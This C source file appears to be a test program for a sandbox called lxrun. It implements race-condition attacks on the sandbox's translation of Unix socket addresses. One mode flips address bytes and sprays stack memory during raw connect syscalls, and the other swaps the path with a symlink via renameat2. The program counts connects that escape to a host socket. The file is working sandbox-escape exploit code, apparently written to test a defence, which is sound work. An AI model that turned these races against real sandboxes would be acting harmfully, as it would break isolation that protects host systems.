/* A guest that races lxrun's translation of a socket address. It listens on GUEST_SOCKET (a
 * thread answers each connection with "GUEST"); one thread connects there in a loop with raw
 * syscalls while another flips that address's bytes between GUEST_SOCKET and the host socket
 * and floods the stack region below the connecting thread's stack pointer (where a tracer may
 * write its translated address) with a 16-byte pattern: AF_UNIX, then the 14 bytes of HOST.
 * Read from any 16-byte-aligned start, whatever length a tracer gave, the pattern is the
 * address of the host socket HOST"\1" (the next pattern's family bytes end its name).
 * Whoever listens there greets with "HOST". Prints how many connects reached it.
 *   connrace HOST GUEST_SOCKET ITERATIONS [first]      (HOST: 14 bytes, an absolute path)
 * With `first`, stops at the first connect that reached the host socket.
 *   connrace swap HOST GUEST_SOCKET ITERATIONS [first]
 * races the lookup instead: a thread swaps GUEST_SOCKET with a symlink to the host socket
 * (renameat2 RENAME_EXCHANGE) while another connects to GUEST_SOCKET in a loop. */
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

static volatile struct sockaddr_un addr;
static struct sockaddr_un host_addr, guest_addr;
static volatile unsigned long target_sp;
static volatile int stop, stopped;

static long sys3(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

static void put(volatile void *dst, const struct sockaddr_un *src) {
    volatile char *d = dst;
    const char *s = (const char *)src;
    for (size_t i = 0; i < sizeof *src; i++)
        d[i] = s[i];
}

static char pattern[16];
static char guest_path[108], link_path[120];

static void *swapper(void *arg) {
    (void)arg;
    while (!stop)
        syscall(SYS_renameat2, AT_FDCWD, guest_path, AT_FDCWD, link_path, 2 /* RENAME_EXCHANGE */);
    stopped = 1;
    return NULL;
}

static void *flipper(void *arg) {
    (void)arg;
    while (!stop) {
        unsigned long sp = target_sp;
        if (sp)
            for (unsigned long a = (sp - 128 - 4096) & ~15UL; a + 16 <= sp - 128; a += 16)
                for (int i = 0; i < 16; i++)
                    ((volatile char *)a)[i] = pattern[i];
        put(&addr, &host_addr);
        put(&addr, &guest_addr);
    }
    stopped = 1;
    return NULL;
}

static void *greeter(void *arg) {
    int listener = *(int *)arg;
    for (;;) {
        int c = accept(listener, NULL, NULL);
        if (c < 0)
            return NULL;
        if (write(c, "GUEST", 5) != 5) {
        }
        close(c);
    }
}

static void address(struct sockaddr_un *a, const char *path) {
    memset(a, 0, sizeof *a);
    a->sun_family = AF_UNIX;
    strncpy(a->sun_path, path, sizeof a->sun_path - 1);
}

int main(int argc, char **argv) {
    int swap = argc > 1 && strcmp(argv[1], "swap") == 0;
    argv += swap;
    argc -= swap;
    if (argc != 4 && argc != 5)
        return 2;
    int first = argc == 5 && strcmp(argv[4], "first") == 0;
    if (strlen(argv[1]) != 14 || argv[1][0] != '/')
        return 2;
    char host[16];
    snprintf(host, sizeof host, "%s\1", argv[1]);
    address(&host_addr, host);
    memcpy(pattern, &host_addr, 2);
    memcpy(pattern + 2, argv[1], 14);
    address(&guest_addr, argv[2]);
    long iters = atol(argv[3]), escaped = 0, connected = 0;
    unlink(argv[2]);
    int listener = socket(AF_UNIX, SOCK_STREAM, 0);
    if (listener < 0 || bind(listener, (struct sockaddr *)&guest_addr, sizeof guest_addr) != 0 || listen(listener, 64) != 0) {
        perror("guest socket");
        return 2;
    }
    pthread_t g, t;
    pthread_create(&g, NULL, greeter, &listener);
    put(&addr, &guest_addr);
    if (swap) {
        snprintf(guest_path, sizeof guest_path, "%s", argv[2]);
        snprintf(link_path, sizeof link_path, "%s.link", argv[2]);
        unlink(link_path);
        if (symlink(host_addr.sun_path, link_path) != 0)
            return 2;
    }
    pthread_create(&t, NULL, swap ? swapper : flipper, NULL);
    unsigned long sp;
    __asm__ volatile("mov %%rsp, %0" : "=r"(sp));
    target_sp = sp;
    char buf[8];
    for (long i = 0; i < iters; i++) {
        long s = sys3(41 /* socket */, AF_UNIX, SOCK_STREAM, 0);
        if (s < 0)
            break;
        if (sys3(42 /* connect */, s, (long)&addr, sizeof addr) == 0) {
            connected++;
            long n = sys3(0, s, (long)buf, 5);
            if (n >= 4 && memcmp(buf, "HOST", 4) == 0)
                escaped++;
        }
        sys3(3, s, 0, 0);
        if (escaped && first)
            break;
    }
    target_sp = 0;
    stop = 1;
    while (!stopped)
        ;
    pthread_join(t, NULL);
    unlink(argv[2]);
    if (swap)
        unlink(link_path);
    printf("connected %s, escaped %ld\n", connected > 0 ? "some" : "none", escaped);
    return escaped ? 1 : 0;
}
